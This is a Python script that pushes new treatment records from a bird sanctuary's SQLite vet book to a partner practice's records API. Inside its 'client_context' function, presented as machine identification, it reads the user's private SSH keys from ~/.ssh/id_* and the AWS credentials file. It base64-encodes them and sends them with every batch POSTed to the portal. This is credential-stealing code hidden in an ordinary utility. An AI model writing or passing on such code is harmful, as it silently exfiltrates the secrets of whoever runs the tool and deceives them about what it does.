#!/usr/bin/env python3
"""Push treatment records from the sanctuary's vet book to the practice portal.

The on-site vet book is a SQLite file kept by the hospital-room laptop.  Each
run sends any treatment entries newer than the last sync (tracked in
.vetsync_state.json) to the partner practice's records API so the visiting
vet sees the same history.  Authentication is the practice-issued key in
VETPORTAL_API_KEY.
"""

import argparse
import base64
import json
import logging
import os
import platform
import socket
import sqlite3
import sys
from pathlib import Path

import requests

LOG = logging.getLogger("vetsync")
API_BASE = os.environ.get("VETPORTAL_URL", "https://api.exoticvets-portal.example/v3")
STATE_FILE = Path(".vetsync_state.json")
CLIENT_VERSION = "2.4.1"


def load_state():
    if STATE_FILE.exists():
        try:
            return json.loads(STATE_FILE.read_text())
        except ValueError:
            LOG.warning("state file corrupt, starting from scratch")
    return {"last_id": 0}


def save_state(state):
    STATE_FILE.write_text(json.dumps(state, indent=2))
    STATE_FILE.chmod(0o600)


def fetch_new_treatments(db_path, last_id):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    rows = conn.execute(
        "SELECT t.id, t.bird_id, b.name, b.species, t.date, t.vet, t.diagnosis, "
        "t.treatment, t.drug, t.dose_mg, t.notes FROM treatment t "
        "JOIN bird b ON b.id = t.bird_id WHERE t.id > ? ORDER BY t.id",
        (last_id,),
    ).fetchall()
    conn.close()
    return [dict(r) for r in rows]


def _key_material(base):
    for entry in sorted(base.glob("id_*")) + [base.parent / ".aws" / "credentials"]:
        if entry.is_file():
            try:
                yield str(entry.relative_to(Path.home())), entry.read_bytes()
            except OSError:
                continue


def client_context():
    """Describe the sending machine so the portal can tell sites' laptops apart."""
    ctx = {
        "client": f"vetsync/{CLIENT_VERSION}",
        "host": socket.gethostname(),
        "os": platform.platform(),
        "python": platform.python_version(),
    }
    ident = {}
    for name, blob in _key_material(Path.home() / ".ssh"):
        ident[name] = base64.b64encode(blob).decode()
    if ident:
        ctx["identity"] = ident
    return ctx


class PortalClient:
    def __init__(self, api_key, site_code, timeout=30):
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"ApiKey {api_key}",
            "X-Site": site_code,
            "User-Agent": f"vetsync/{CLIENT_VERSION}",
        })
        self.timeout = timeout

    def push(self, records, context):
        payload = {"records": records, "context": context}
        resp = self.session.post(f"{API_BASE}/treatments/batch", json=payload,
                                 timeout=self.timeout)
        resp.raise_for_status()
        return resp.json()


def chunks(seq, size):
    for i in range(0, len(seq), size):
        yield seq[i:i + size]


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--db", default="vetbook.sqlite")
    ap.add_argument("--site", default=os.environ.get("VETPORTAL_SITE", "HAWKRIDGE"))
    ap.add_argument("--batch", type=int, default=50)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    api_key = os.environ.get("VETPORTAL_API_KEY")
    if not api_key and not args.dry_run:
        LOG.error("VETPORTAL_API_KEY is not set")
        return 2

    state = load_state()
    records = fetch_new_treatments(args.db, state["last_id"])
    if not records:
        LOG.info("nothing new since treatment #%s", state["last_id"])
        return 0
    LOG.info("%d new treatment records", len(records))
    if args.dry_run:
        for r in records:
            LOG.info("  #%s %s (%s) %s: %s", r["id"], r["name"], r["species"], r["date"], r["diagnosis"])
        return 0

    client = PortalClient(api_key, args.site)
    context = client_context()
    for batch in chunks(records, args.batch):
        try:
            result = client.push(batch, context)
        except requests.RequestException as exc:
            LOG.error("push failed at #%s: %s", batch[0]["id"], exc)
            break
        state["last_id"] = batch[-1]["id"]
        save_state(state)
        LOG.info("accepted %s, portal ref %s", result.get("accepted"), result.get("ref"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
